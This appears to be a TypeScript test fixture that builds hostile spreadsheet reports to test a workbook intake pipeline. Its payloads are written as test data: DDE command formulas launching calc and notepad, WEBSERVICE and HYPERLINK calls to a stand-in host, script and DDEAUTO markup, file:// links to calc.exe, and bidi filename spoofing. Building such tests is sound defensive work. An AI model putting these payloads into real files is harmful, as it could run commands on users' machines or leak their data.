import { editPart, type Parts } from '../../../pipeline/workbook/package.ts';
import { named } from '../../workbook/read/namespaces.ts';
import { type Hostile, fileOf } from './hostile.ts';
import { type ReportName, changed, partOf, setCell, setText } from './report.ts';

/** A cell for text that every duty has: what was done. */
const RESULT = ['Nhiệm vụ', 'K4'] as const;
const RELATION =
  '<Relationship Id="evil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///c:/windows/system32/calc.exe" TargetMode="External"/>';

const withFormula = (name: ReportName, formula: string) => () =>
  changed(name, (parts) => {
    setCell(parts, RESULT, `<f>${formula}</f><v>Đã hoàn thành việc được giao</v>`, ' t="str"');
  });

/** Formulas in input cells, whatever they would do: the report goes back. */
export const FORMULAS: readonly Hostile[] = [
  fileOf('DDE.xlsx', 'formula-in-input', withFormula('SonTay', "cmd|' /C calc'!A0")),
  fileOf('HYPERLINK.xlsx', 'formula-in-input', withFormula('TuPhap', 'HYPERLINK("http://x.test","a")')),
  fileOf('WEBSERVICE.xlsx', 'formula-in-input', withFormula('BaDinh', 'WEBSERVICE("http://x.test")')),
  fileOf('liên kết ngoài.xlsx', 'formula-in-input', withFormula('MeLinh', '[1]Sheet1!$A$1')),
];

/** Text that means something to a spreadsheet, a browser, a terminal or a word processor. */
export const TEXTS = {
  dde: `=cmd|' /C calc'!A0`,
  plus: '+HYPERLINK("http://x.test/?"&A1,"Bấm vào đây")',
  minus: "-2+3+cmd|' /C notepad'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1 sau dấu tab',
  markup: '</t></si></sst><script>alert(1)</script>&amp;<w:fldSimple w:instr="DDEAUTO c:\\\\calc"/>',
  link: 'javascript:alert(1) file:///c:/windows/system32/calc.exe https://x.test',
  template: '${7*7} {{7*7}} <%= 7*7 %> %s%n _x0041_ {=1}',
  terminal: 'Đã xong _x001B_[31mđỏ_x001B_]8;;http://x.test_x0007_bấm_x0008__x000B_',
  bidi: 'Kết quả \u202Efdp.exe\u202C \u2066ẩn\u2069 \u200F',
  surrogates: 'Nửa ký tự _xD800_ và _xDFFF_ cùng _xFFFE_',
} as const;

function withTexts(parts: Parts): void {
  const texts = Object.values(TEXTS);
  texts.forEach((text, i) => {
    setText(parts, ['Văn bản', `F${4 + i}`], text);
  });
}

/** A document row holds `text` as its subject beside facts that are in order. */
function documentRows(parts: Parts): void {
  Object.keys(TEXTS).forEach((_, i) => {
    const row = 4 + i;
    setText(parts, ['Văn bản', `A${row}`], 'III.1.1-a');
    setText(parts, ['Văn bản', `B${row}`], 'Công văn');
    setText(parts, ['Văn bản', `C${row}`], `${700 + i}/SNV-TCCB`);
    setText(parts, ['Văn bản', `D${row}`], '10/10/2021');
    setText(parts, ['Văn bản', `E${row}`], 'Sở Nội vụ');
  });
}

/** Reports that are in order and carry what must stay text, or must not be followed. */
export const PAYLOADS: readonly Hostile[] = [
  fileOf('nội dung độc.xlsx', 'accepted', () =>
    changed('SNV', (parts) => {
      documentRows(parts);
      withTexts(parts);
    }),
  ),
  fileOf('có macro.xlsm', 'accepted', () =>
    changed('ThachThat', (parts) => {
      parts.set('xl/vbaProject.bin', 'Sub Auto_Open()');
      editPart(parts, '[Content_Types].xml', (xml) =>
        xml.replace('sheet.main+xml', 'sheet.macroEnabled.main+xml'),
      );
    }),
  ),
  fileOf('liên kết trong ô.xlsx', 'accepted', () =>
    changed('TaiChinh', (parts) => {
      const part = partOf(parts, 'Nhiệm vụ');
      const rels = part.replace('worksheets/', 'worksheets/_rels/').concat('.rels');
      if (!parts.has(rels)) parts.set(rels, named('<Relationships></Relationships>'));
      editPart(parts, rels, (xml) => xml.replace('</Relationships>', `${RELATION}</Relationships>`));
      editPart(parts, part, (xml) =>
        xml.replace('<pageMargins', '<hyperlinks><hyperlink ref="K4" r:id="evil"/></hyperlinks><pageMargins'),
      );
    }),
  ),
  fileOf('liên kết tới sổ khác.xlsx', 'accepted', () =>
    changed('ThanhTra', (parts) => {
      parts.set(
        'xl/externalLinks/externalLink1.xml',
        '<externalLink><externalBook r:id="rId1"/></externalLink>',
      );
      editPart(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
        xml.replace('</Relationships>', `${RELATION.replace('hyperlink', 'externalLink')}</Relationships>`),
      );
    }),
  ),
  fileOf('=HYPERLINK("http:x.test","a");\u202Exslx.\u001B[2J\n&<a>.xlsx', 'accepted', () =>
    changed('ThanhXuan', () => undefined),
  ),
];
